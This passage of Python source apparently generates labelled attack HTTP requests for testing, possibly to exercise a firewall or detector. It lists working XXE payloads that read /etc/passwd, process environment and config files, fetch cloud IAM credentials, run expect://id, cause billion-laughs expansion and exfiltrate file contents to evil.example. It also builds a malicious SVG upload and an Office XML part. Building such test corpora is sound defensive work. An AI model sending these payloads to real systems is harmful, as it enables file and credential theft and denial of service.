    for path, arg, value, note in SENSITIVE_QUERY:
        out.append(record("GET", path, qs([(arg, value)], "component"), client_headers(rng), where="query", note=f"{note}; GET {path}"))
    return out


# ---------------------------------------------------------------------------------------------------- XXE

XXE = [
    ('<?xml version="1.0"?><!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><order><id>&xxe;</id><qty>1</qty></order>', "external entity reading /etc/passwd"),
    ('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]><r><name>&x;</name></r>', "external entity fetching cloud metadata"),
    ('<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><data>1</data>', "parameter entity loading a remote DTD (out-of-band)"),
    ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><lolz>&lol4;</lolz>', "entity expansion (billion laughs)"),
    ('<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>', "XInclude of a local file"),
    ('<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrder><id>&xxe;</id></GetOrder></soap:Body></soap:Envelope>', "SOAP request with an external entity (Windows file)"),
    ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]><r>&x;</r>', "external entity through php://filter"),
    ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>', "external entity with expect://"),
    ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "jar:http://evil.example/x.zip!/a.txt">]><r>&x;</r>', "external entity with jar:"),
    ('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///proc/self/environ">]><foo>&xxe;</foo>', "external entity reading the process environment"),
    ('<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://198.51.100.7:8080/probe.dtd"><r/>', "external DTD probe"),
    ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "file:///etc/hostname"><!ENTITY % b "<!ENTITY &#x25; c SYSTEM \'http://evil.example/?d=%a;\'>">%b;%c;]><r/>', "out-of-band exfiltration with nested parameter entities"),
]


def xxe():
    rng = rng_for("xxe")
    out = []
    paths = ["/api/v1/orders/import", "/soap/OrderService", "/api/v1/feeds", "/xmlrpc", "/api/v2/invoices/upload"]
    for i, (body, note) in enumerate(XXE):
        path = paths[i % len(paths)]
        ctype = ["application/xml", "text/xml", "application/xml; charset=utf-8", "text/xml; charset=UTF-8"][i % 4]
        out.append(record("POST", path, "", with_body(client_headers(rng), ctype), body, where="body-xml", note=f"{note}; POST {path}"))
    svg = '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="128" height="128"><text x="0" y="16">&xxe;</text></svg>'
    ctype, body = multipart(rng, [("name", "logo"), ("file", "logo.svg", "image/svg+xml", svg)])
    out.append(record("POST", "/api/v1/brand/logo", "", with_body(browser_headers(rng), ctype), body, where="body-multipart",
                      note="SVG upload carrying an external entity; POST /api/v1/brand/logo"))
    docx_xml = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.example/oob">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>&e;</w:body></w:document>'
    out.append(record("POST", "/api/v1/documents/convert", "", with_body(client_headers(rng), "application/xml"), docx_xml, where="body-xml",
                      note="Office XML part with an external entity; POST /api/v1/documents/convert"))
    return out


CATEGORIES = [
    ("log4shell", log4shell),
    ("ssrf", ssrf),
    ("php", php),
    ("java-deser", java),
    ("xxe", xxe),
    ("scanner", scanner),
    ("sensitive-file", sensitive_file),
]
